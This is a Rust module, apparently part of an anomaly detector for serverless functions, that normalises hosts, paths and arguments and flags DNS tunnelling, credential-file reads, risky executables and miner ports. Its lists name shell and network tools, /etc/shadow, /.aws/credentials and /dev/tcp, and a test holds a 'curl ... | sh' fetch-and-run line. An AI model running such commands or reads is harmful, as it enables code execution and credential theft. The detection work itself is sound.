//! Normalising what functions touch, so that benign randomness does not look
//! new every time: CDN host labels, API ids, bucket names, temporary file
//! names and arguments become `*` (or a class token) before they are compared
//! with a baseline.

/// Shannon entropy of a string's bytes, in bits per byte.
pub fn entropy(s: &str) -> f64 {
    if s.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in s.as_bytes() {
        counts[b as usize] += 1;
    }
    let n = s.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// Whether one token (a DNS label, a path component, an argument) looks
/// machine-made: an id, a hash, a random name, a number.
pub fn looks_random(token: &str) -> bool {
    let len = token.len();
    if len == 0 {
        return false;
    }
    let digits = token.bytes().filter(u8::is_ascii_digit).count();
    if digits == len {
        return true;
    }
    if len >= 32 && is_hexish(token) {
        return true;
    }
    if is_uuid(token) {
        return true;
    }
    let letters = token.bytes().filter(u8::is_ascii_alphabetic).count();
    // Mixed letters and digits, long enough not to be a version like "v2".
    if len >= 6 && digits >= 2 && letters >= 1 {
        return true;
    }
    // Long runs of consonant-heavy lowercase: random labels such as "kq7x".
    if len >= 10 && entropy(token) >= 3.2 && vowel_share(token) < 0.25 {
        return true;
    }
    len >= 20 && entropy(token) >= 3.6
}

fn vowel_share(s: &str) -> f64 {
    let letters = s.bytes().filter(u8::is_ascii_alphabetic).count();
    if letters == 0 {
        return 0.0;
    }
    let vowels = s
        .bytes()
        .filter(|b| {
            matches!(
                b.to_ascii_lowercase(),
                b'a' | b'e' | b'i' | b'o' | b'u' | b'y'
            )
        })
        .count();
    vowels as f64 / letters as f64
}

fn is_hexish(s: &str) -> bool {
    s.bytes().all(|b| b.is_ascii_hexdigit() || b == b'-')
}

fn is_uuid(s: &str) -> bool {
    s.len() == 36 && s.bytes().filter(|&b| b == b'-').count() == 4 && is_hexish(s)
}

/// A DNS name with machine-made labels replaced by `*`, lowercased, without
/// the trailing dot: `d2x9k1abcd.cloudfront.net` -> `*.cloudfront.net`,
/// `k7q2m9x4ab.execute-api.us-east-1.amazonaws.com` -> `*.execute-api.us-east-1.amazonaws.com`.
pub fn dns_shape(name: &str) -> String {
    let name = name.trim_end_matches('.');
    let mut out = String::with_capacity(name.len());
    for (i, label) in name.split('.').enumerate() {
        if i > 0 {
            out.push('.');
        }
        if looks_random(label) || label_has_random_part(label) {
            out.push('*');
        } else {
            for c in label.chars() {
                out.push(c.to_ascii_lowercase());
            }
        }
    }
    out
}

/// Labels such as `search-acme-products-4fj2k8xq1z` or `s3-1-w`: a random
/// part after a dash.
fn label_has_random_part(label: &str) -> bool {
    label.len() > 12 && label.split('-').any(|p| p.len() >= 6 && looks_random(p))
}

/// The longest label of a DNS name, and its entropy.
pub fn longest_label(name: &str) -> (&str, f64) {
    let l = name
        .trim_end_matches('.')
        .split('.')
        .max_by_key(|l| l.len())
        .unwrap_or("");
    (l, entropy(l))
}

/// Whether a DNS name looks like data smuggled in labels: a long label of
/// high entropy, or many medium-length random labels.
pub fn tunnel_like(name: &str) -> bool {
    let name = name.trim_end_matches('.');
    // The longest dash-free run of any label: service endpoints such as
    // `search-acme-products-4fj2k8xq1z` are words with a short random part,
    // encoded data is one long run.
    let core = name.split(['.', '-']).max_by_key(|p| p.len()).unwrap_or("");
    if core.len() >= 40 {
        return true;
    }
    if core.len() >= 24 && entropy(core) >= 3.5 {
        return true;
    }
    name.len() >= 100 && name.split('.').filter(|l| looks_random(l)).count() >= 3
}

/// Registrable domain (eTLD+1) of a host name, lowercased. For names under a
/// multi-tenant provider suffix (cloudfront.net, s3.amazonaws.com, ...) the
/// public suffix list gives the tenant's name; [`provider`] gives the suffix.
pub fn registrable_domain(host: &str) -> Option<String> {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let d = psl::domain(host.as_bytes())?;
    std::str::from_utf8(d.as_bytes()).ok().map(str::to_string)
}

/// The public suffix of a host: `cloudfront.net` for a CloudFront host,
/// `com` for an ordinary .com name.
pub fn provider(host: &str) -> Option<String> {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let s = psl::suffix(host.as_bytes())?;
    std::str::from_utf8(s.as_bytes()).ok().map(str::to_string)
}

/// The site a name belongs to for baselining: its registrable domain, or
/// for multi-tenant providers whose tenants are random (`d123.cloudfront.net`)
/// the provider with a `*` tenant.
pub fn site(host: &str) -> String {
    let host_l = host.trim_end_matches('.').to_ascii_lowercase();
    // AWS endpoints: the public suffix list makes every regional service
    // zone a suffix of its own; for a function they are all one provider.
    for aws in [".amazonaws.com", ".amazonaws.com.cn", ".api.aws"] {
        if host_l.ends_with(aws) && !is_bucket_host(&host_l) {
            return aws[1..].to_string();
        }
    }
    match registrable_domain(&host_l) {
        Some(d) => {
            let first = d.split('.').next().unwrap_or("");
            let suffix = d.split_once('.').map(|(_, s)| s).unwrap_or("");
            if suffix.contains('.') && (looks_random(first) || label_has_random_part(first)) {
                format!("*.{suffix}")
            } else {
                d
            }
        }
        None => host_l,
    }
}

/// `bucket.s3.amazonaws.com` and `bucket.s3.<region>.amazonaws.com`: a
/// tenant's bucket, which is its own site.
fn is_bucket_host(host: &str) -> bool {
    let labels: Vec<&str> = host.split('.').collect();
    labels.len() >= 4
        && labels[1..]
            .first()
            .is_some_and(|l| *l == "s3" || l.starts_with("s3-"))
}

/// Whether a string is an IPv4 or IPv6 address.
pub fn is_ip(s: &str) -> bool {
    parse_ip(s).is_some()
}

/// `s` as an IP address, if it is one.
pub fn parse_ip(s: &str) -> Option<std::net::IpAddr> {
    // Host names start with a letter far more often than not: skip the parse.
    // And hold nothing but hex digits, dots and colons (checked before
    // the parse, which costs more than the scan).
    let first = s.as_bytes().first().copied().unwrap_or(b'x');
    if (first.is_ascii_hexdigit() || first == b':')
        && s.len() <= 45
        && s.bytes()
            .all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b':')
    {
        s.parse().ok()
    } else {
        None
    }
}

/// Private, loopback, link-local and other non-routable addresses.
pub fn is_private_ip(s: &str) -> bool {
    match s.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(v4)) => {
            v4.is_private() || v4.is_loopback() || v4.is_link_local() || v4.is_unspecified()
        }
        Ok(std::net::IpAddr::V6(v6)) => {
            v6.is_loopback() || v6.is_unspecified() || (v6.segments()[0] & 0xfe00) == 0xfc00
        }
        Err(_) => false,
    }
}

/// The /24 (IPv4) or /48 (IPv6) network of an address, as text.
pub fn ip_prefix(s: &str) -> String {
    match s.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(v4)) => {
            let o = v4.octets();
            format!("{}.{}.{}.0/24", o[0], o[1], o[2])
        }
        Ok(std::net::IpAddr::V6(v6)) => {
            let g = v6.segments();
            format!("{:x}:{:x}:{:x}::/48", g[0], g[1], g[2])
        }
        Err(_) => s.to_string(),
    }
}

/// A file path with machine-made components replaced by `*` and the file
/// name reduced to its extension: `/tmp/ab12cd34.jpg` -> `/tmp/*.jpg`,
/// `/tmp/hsperfdata_sbx_user1051/27` -> `/tmp/hsperfdata_*/*`.
pub fn path_shape(path: &str) -> String {
    let mut out = String::with_capacity(path.len());
    let comps: Vec<&str> = path.split('/').collect();
    let last = comps.len().saturating_sub(1);
    for (i, c) in comps.iter().enumerate() {
        if i > 0 {
            out.push('/');
        }
        if c.is_empty() {
            continue;
        }
        if i == last {
            // Keep well-known file names, reduce others to their extension.
            let (stem, ext) = match c.rsplit_once('.') {
                Some((s, e)) if !s.is_empty() && e.len() <= 5 => (s, Some(e)),
                _ => (*c, None),
            };
            if looks_random(stem) || random_suffix(stem) {
                out.push('*');
            } else {
                out.push_str(stem);
            }
            if let Some(e) = ext {
                out.push('.');
                out.push_str(e);
            }
        } else if looks_random(c) {
            out.push('*');
        } else if let Some((head, tail)) = c.rsplit_once(['_', '-'])
            && looks_random(tail)
        {
            out.push_str(head);
            out.push_str("_*");
        } else {
            out.push_str(c);
        }
    }
    out
}

fn random_suffix(stem: &str) -> bool {
    stem.rsplit_once(['_', '-', '.'])
        .is_some_and(|(_, t)| looks_random(t))
        || (stem.starts_with("tmp") && stem.len() > 6)
        || (stem.starts_with("report-") && stem.len() > 10)
}

/// The directory of a path shape (`/tmp/*.jpg` -> `/tmp`), at most `depth`
/// components deep.
pub fn dir_of(shape: &str, depth: usize) -> String {
    let dir = match shape.rsplit_once('/') {
        Some(("", _)) => "/",
        Some((d, _)) => d,
        None => "",
    };
    let mut out = String::new();
    for (i, c) in dir.split('/').filter(|c| !c.is_empty()).enumerate() {
        if i >= depth {
            break;
        }
        out.push('/');
        out.push_str(c);
    }
    if out.is_empty() { "/".to_string() } else { out }
}

/// Paths whose reading means credential or host reconnaissance.
pub fn sensitive_path(path: &str) -> Option<&'static str> {
    let p = path.to_ascii_lowercase();
    if p.starts_with("/proc/") && p.ends_with("/environ") {
        return Some("process environment (holds the function's credentials)");
    }
    if p.starts_with("/proc/") && (p.ends_with("/mem") || p.ends_with("/maps")) {
        return Some("process memory");
    }
    const LIST: [(&str, &str); 9] = [
        ("/etc/passwd", "the user database"),
        ("/etc/shadow", "password hashes"),
        ("/etc/sudoers", "privilege configuration"),
        ("/.aws/credentials", "cloud credentials"),
        ("/.aws/config", "cloud configuration"),
        ("/.ssh/", "SSH keys"),
        ("/var/run/secrets/", "mounted secrets"),
        ("/root/", "the root user's home"),
        ("/.docker/config.json", "registry credentials"),
    ];
    LIST.iter()
        .find(|(needle, _)| p.contains(needle))
        .map(|(_, why)| *why)
}

/// Executables that, spawned from a function, are how attacks usually look:
/// shells, downloaders, interpreters, network tools.
pub fn risky_exe(exe: &str) -> bool {
    let base = exe.rsplit('/').next().unwrap_or(exe);
    let in_scratch =
        exe.starts_with("/tmp/") || exe.starts_with("/dev/shm/") || base.starts_with('.');
    in_scratch
        || matches!(
            base,
            "sh" | "bash"
                | "dash"
                | "zsh"
                | "ash"
                | "busybox"
                | "curl"
                | "wget"
                | "nc"
                | "ncat"
                | "netcat"
                | "socat"
                | "python"
                | "python3"
                | "perl"
                | "ruby"
                | "php"
                | "node"
                | "sleep"
                | "nslookup"
                | "dig"
                | "base64"
                | "chmod"
                | "telnet"
                | "ssh"
                | "scp"
                | "xmrig"
        )
}

/// An executable path with random directories replaced: `/tmp/.x8f/run` -> `/tmp/*/run`.
pub fn exe_shape(exe: &str) -> String {
    path_shape(exe)
}

/// The shape of a command line's arguments: flags kept, values reduced to a
/// class (`N` number, `P` path, `U` URL, `W` word), at most 12 arguments.
pub fn args_shape(args: &[&str]) -> String {
    let mut out = String::with_capacity(64);
    push_args_shape(&mut out, args.iter().copied());
    out
}

/// [`args_shape`] of `argv` (the program first), appended to `out`.
pub fn push_args_shape<'a>(out: &mut String, argv: impl Iterator<Item = &'a str>) {
    for (i, a) in argv.skip(1).take(12).enumerate() {
        if i > 0 {
            out.push(' ');
        }
        push_arg_class(out, a);
    }
}

/// Appends one argument's class to `out` (no allocation of its own: shapes
/// are made for every process and every command of a command line).
fn push_arg_class(out: &mut String, a: &str) {
    if a.starts_with('-') {
        // `-sOutputFile=/tmp/x.pdf` -> `-sOutputFile=P`; `-resize` stays.
        match a.split_once('=') {
            Some((k, v)) => {
                out.push_str(k);
                out.push('=');
                push_arg_class(out, v);
            }
            None if a.len() > 24 => out.push_str("-F"),
            None => out.push_str(a),
        }
        return;
    }
    out.push_str(value_class(a));
}

/// Whether `s` holds `://` (a byte scan: `str::contains` with a pattern sets
/// up a searcher, which costs more than the scan on words this short).
pub fn has_scheme_separator(s: &str) -> bool {
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(p) = b[from..].iter().position(|&c| c == b':') {
        let at = from + p;
        if b[at + 1..].starts_with(b"//") {
            return true;
        }
        from = at + 1;
    }
    false
}

/// The class of an argument that is not a flag.
fn value_class(a: &str) -> &'static str {
    if has_scheme_separator(a) {
        return "U";
    }
    if a.contains('/') {
        return "P";
    }
    // Only these can begin a number `f64` reads (`+1`, `.5`, `inf`, `NaN`).
    let numeric_start = a.bytes().next().is_some_and(|b| {
        b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'i' | b'I' | b'n' | b'N')
    });
    if numeric_start && a.parse::<f64>().is_ok() {
        return "N";
    }
    if a.bytes()
        .any(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'>' | b'<'))
    {
        return "S";
    }
    "W"
}

/// Whether arguments carry what a command injection brings: URLs, pipes,
/// shell `-c` scripts, download flags.
pub fn risky_args(args: &[&str]) -> bool {
    args.iter().any(|a| {
        a.contains("://")
            || *a == "-c"
            || a.contains('|')
            || a.contains("$(")
            || a.contains('`')
            || a.contains("/dev/tcp/")
            || a.starts_with("stratum")
    })
}

/// An ARN or resource name with its random or per-item last parts replaced.
pub fn resource_shape(resource: &str) -> String {
    let mut out = String::with_capacity(resource.len());
    let mut depth = 0;
    for (i, part) in resource.split('/').enumerate() {
        if i > 0 {
            out.push('/');
            depth += 1;
        }
        if depth >= 2 || (i > 0 && looks_random(part)) {
            out.push('*');
            break;
        }
        out.push_str(part);
    }
    out
}

/// Recon and privilege actions: what stolen credentials are first used for.
pub fn sensitive_action(service: &str, action: &str) -> bool {
    matches!(service, "iam" | "sts" | "organizations" | "account")
        || (action.starts_with("List")
            && matches!(service, "secretsmanager" | "kms" | "lambda" | "s3" | "ssm"))
        || (action.starts_with("Describe") && matches!(service, "ec2" | "rds" | "secretsmanager"))
        || matches!(
            (service, action),
            ("s3", "ListAllMyBuckets")
                | ("s3", "ListBuckets")
                | ("s3", "GetBucketPolicy")
                | ("s3", "PutBucketPolicy")
                | ("lambda", "UpdateFunctionCode")
                | ("lambda", "GetFunction")
                | ("ssm", "GetParameters")
                | ("ssm", "GetParametersByPath")
                | ("ec2", "RunInstances")
        )
}

/// Ports that cryptominers, shells and IRC bots use and services rarely do.
pub fn suspicious_port(port: i32) -> bool {
    matches!(
        port,
        1337 | 3333
            | 4444
            | 4445
            | 5555
            | 6666
            | 6667
            | 7777
            | 8333
            | 9999
            | 14444
            | 14433
            | 31337
            | 45560
            | 45700
    )
}

/// Whether an IAM action pattern (`s3:*`, `dynamodb:Get*`, `*`) grants an action.
pub fn grant_matches(pattern: &str, action: &str) -> bool {
    let p = pattern.to_ascii_lowercase();
    let a = action.to_ascii_lowercase();
    glob(p.as_bytes(), a.as_bytes())
}

fn glob(p: &[u8], s: &[u8]) -> bool {
    // Iterative wildcard match with `*` and `?`.
    let (mut pi, mut si) = (0usize, 0usize);
    let (mut star, mut mark) = (None::<usize>, 0usize);
    while si < s.len() {
        if pi < p.len() && (p[pi] == b'?' || p[pi] == s[si]) {
            pi += 1;
            si += 1;
        } else if pi < p.len() && p[pi] == b'*' {
            star = Some(pi);
            mark = si;
            pi += 1;
        } else if let Some(st) = star {
            pi = st + 1;
            mark += 1;
            si = mark;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == b'*' {
        pi += 1;
    }
    pi == p.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dns_shapes_hide_random_labels() {
        assert_eq!(dns_shape("d2x9k1abcd.cloudfront.net"), "*.cloudfront.net");
        assert_eq!(
            dns_shape("k7q2m9x4ab.execute-api.us-east-1.amazonaws.com"),
            "*.execute-api.us-east-1.amazonaws.com"
        );
        assert_eq!(dns_shape("api.stripe.com."), "api.stripe.com");
        assert_eq!(dns_shape("hooks.slack.com"), "hooks.slack.com");
        assert_eq!(
            dns_shape("dynamodb.us-east-1.amazonaws.com"),
            "dynamodb.us-east-1.amazonaws.com"
        );
        assert_eq!(
            dns_shape("search-acme-products-4fj2k8xq1z.us-east-1.es.amazonaws.com"),
            "*.us-east-1.es.amazonaws.com"
        );
    }

    #[test]
    fn sites_group_tenants_of_providers() {
        assert_eq!(site("d2x9k1abcd.cloudfront.net"), "*.cloudfront.net");
        assert_eq!(site("api.stripe.com"), "stripe.com");
        assert_eq!(site("pastebin.com"), "pastebin.com");
        assert_eq!(
            site("acme-uploads.s3.amazonaws.com"),
            "acme-uploads.s3.amazonaws.com"
        );
        assert_eq!(site("sts.us-east-1.amazonaws.com"), "amazonaws.com");
        assert_eq!(site("dynamodb.us-east-1.amazonaws.com"), "amazonaws.com");
    }

    #[test]
    fn tunnels_are_long_random_labels() {
        assert!(tunnel_like(
            "mzxw6ytboi2dkmbsgq3tmnzygu4dsmbrgiztinjwg44dqobz.0a.t.example-cdn-update.com"
        ));
        assert!(tunnel_like(
            "4f9a8c7e6d5b4a3f2e1d0c9b8a7f6e5d.x.dnslog-t.net"
        ));
        assert!(!tunnel_like("dynamodb.us-east-1.amazonaws.com"));
        assert!(!tunnel_like("d3k9q8z7w6v5u4.cloudfront.net"));
        assert!(!tunnel_like(
            "search-acme-products-4fj2k8xq1z.us-east-1.es.amazonaws.com"
        ));
    }

    #[test]
    fn paths_lose_random_names() {
        assert_eq!(path_shape("/tmp/ab12cd34ef56.jpg"), "/tmp/*.jpg");
        assert_eq!(path_shape("/tmp/ab12cd34ef56_256.jpg"), "/tmp/*.jpg");
        assert_eq!(path_shape("/tmp/hsperfdata_sbx_user1051/27"), "/tmp/*/*");
        assert_eq!(
            path_shape("/etc/ssl/certs/ca-certificates.crt"),
            "/etc/ssl/certs/ca-certificates.crt"
        );
        assert_eq!(path_shape("/tmp/report-k3j9x8a2.pdf"), "/tmp/*.pdf");
        assert_eq!(dir_of("/tmp/*.jpg", 3), "/tmp");
        assert_eq!(dir_of("/var/task/templates/a.html", 2), "/var/task");
        assert!(sensitive_path("/proc/self/environ").is_some());
        assert!(sensitive_path("/proc/1/environ").is_some());
        assert!(sensitive_path("/tmp/x.jpg").is_none());
    }

    #[test]
    fn argument_shapes() {
        assert_eq!(
            args_shape(&[
                "convert",
                "/tmp/a.jpg",
                "-resize",
                "256x256>",
                "-strip",
                "/tmp/b.jpg"
            ]),
            "P -resize S -strip P"
        );
        assert!(risky_args(&["sh", "-c", "curl http://x | sh"]));
        assert!(!risky_args(&["gs", "-q", "-sOutputFile=/tmp/a.pdf"]));
        assert!(risky_exe("/bin/sh"));
        assert!(risky_exe("/tmp/.cache/xmrig"));
        assert!(!risky_exe("/usr/bin/convert"));
    }

    /// The classes are part of every trained model: the shortcuts taken
    /// before the number parse and the `://` search keep them as they were.
    #[test]
    fn argument_classes_at_the_edges() {
        let cases = [
            ("12", "N"),
            ("+1.5", "N"),
            (".5", "N"),
            ("1e5", "N"),
            ("inf", "N"),
            ("Infinity", "N"),
            ("NaN", "N"),
            ("nano", "W"),
            ("index", "W"),
            ("256x256", "W"),
            ("a:b//c", "P"),
            ("s3://bucket/key", "U"),
            ("x://", "U"),
            ("a:/b", "P"),
            ("host:80", "W"),
            ("a;b", "S"),
            ("-q=3", "-q=N"),
            ("-o=http://x/y", "-o=U"),
            ("--level=-1", "--level=-1"),
            ("--x==y", "--x=W"),
            ("", "W"),
        ];
        for (arg, class) in cases {
            assert_eq!(args_shape(&["cmd", arg]), class, "{arg:?}");
        }
        assert!(has_scheme_separator("a:b://c"));
        assert!(!has_scheme_separator("a:/b:/c:"));
        for ip in [
            "1.2.3.4",
            "::1",
            "fe80::1",
            "::ffff:192.0.2.1",
            "2001:db8::8a2e:370:7334",
        ] {
            assert!(is_ip(ip), "{ip}");
        }
        for not in [
            "1.2.3",
            "cafe",
            "1.2.3.4x",
            "fe80::1%eth0",
            "[::1]",
            "1.2.3.4:80",
            "",
        ] {
            assert!(!is_ip(not), "{not}");
        }
    }

    #[test]
    fn grants() {
        assert!(grant_matches("s3:*", "s3:GetObject"));
        assert!(grant_matches("*", "iam:ListUsers"));
        assert!(grant_matches("dynamodb:Get*", "dynamodb:GetItem"));
        assert!(!grant_matches("dynamodb:Get*", "dynamodb:PutItem"));
        assert!(grant_matches("S3:GetObject", "s3:getobject"));
    }

    #[test]
    fn resources() {
        assert_eq!(
            resource_shape("arn:aws:s3:::acme-uploads/incoming/ab12.jpg"),
            "arn:aws:s3:::acme-uploads/incoming/*"
        );
        assert_eq!(
            resource_shape("arn:aws:dynamodb:us-east-1:1:table/orders"),
            "arn:aws:dynamodb:us-east-1:1:table/orders"
        );
    }
}
